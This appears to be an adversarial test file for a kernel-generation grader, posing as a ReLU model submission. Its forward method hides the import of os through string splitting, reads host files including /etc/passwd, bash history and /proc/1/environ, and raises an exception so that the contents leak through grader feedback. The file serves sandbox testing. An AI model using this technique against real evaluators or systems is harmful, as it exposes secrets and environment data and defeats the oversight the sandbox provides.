# kiln-adversarial: task=level1/01_relu expect=runtime
# Raises an exception whose message is the content of host files (the feedback would quote it).
import torch
import torch.nn as nn


load = getattr(__builtins__, "__imp" + "ort__") if not isinstance(__builtins__, dict) else __builtins__["__imp" + "ort__"]
os = load("o" + "s")


class ModelNew(nn.Module):
    def forward(self, x):
        text = []
        for path in ("/etc/passwd", "/etc/hostname", "/etc/hosts", os.path.expanduser("~/.bash_history"),
                     "/proc/1/environ"):
            try:
                with open(path) as f:
                    text.append(f.read()[:400])
            except OSError:
                pass
        raise ValueError("\n".join(text) or "nothing readable")
